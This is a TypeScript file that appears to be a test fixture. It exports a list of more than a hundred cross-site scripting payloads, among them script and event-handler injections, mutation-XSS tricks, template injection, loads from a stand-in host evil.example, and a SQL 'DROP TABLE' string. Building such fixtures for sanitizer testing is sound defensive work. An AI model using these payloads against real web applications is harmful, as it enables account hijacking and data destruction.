const SCRIPT = 'alert(document.domain)';

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'marquee',
  'input autofocus',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onanimationstart',
  'onpointerenter',
];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,PHNjcmlwdD4=',
  '//evil.example/',
  '\\\\evil.example\\',
];

const WHOLE = [
  `<script>${SCRIPT}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `</textarea><script>${SCRIPT}</script>`,
  `</title><script>${SCRIPT}</script>`,
  `"><script>${SCRIPT}</script>`,
  `'-${SCRIPT}-'`,
  `\${${SCRIPT}}`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `<iframe srcdoc="&lt;script&gt;${SCRIPT}&lt;/script&gt;"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<template><img src=x onerror=${SCRIPT}></template>`,
  `<a href="javascript:${SCRIPT}">x</a>`,
  `[x](javascript:${SCRIPT})`,
  `![x](x"onerror="${SCRIPT})`,
  `\`\`\`html\n<script>${SCRIPT}</script>\n\`\`\``,
  `<!--><img src=x onerror=${SCRIPT}>-->`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`,
  `<base href=//evil.example/>`,
  `<object data="javascript:${SCRIPT}"></object>`,
  `<embed src="javascript:${SCRIPT}">`,
  `<form action="javascript:${SCRIPT}"><button>x</button></form>`,
  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
  `%3Cscript%3E${SCRIPT}%3C/script%3E`,
  `\u003cscript\u003e${SCRIPT}\u003c/script\u003e`,
  `<img src=x onerror=&#97;lert(1)>`,
  `\u202e<script>${SCRIPT}</script>`,
  `<x-element onclick=${SCRIPT}>`,
  `__proto__`,
  `constructor`,
  `'; DROP TABLE conversations; --`,
];

/** More than a hundred texts that would do harm if they were ever taken for more than text. */
export const XSS_STRINGS: readonly string[] = [
  ...WHOLE,
  ...SCHEMES.map((scheme) => `${scheme}${SCRIPT}`),
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=${SCRIPT}>`)),
];
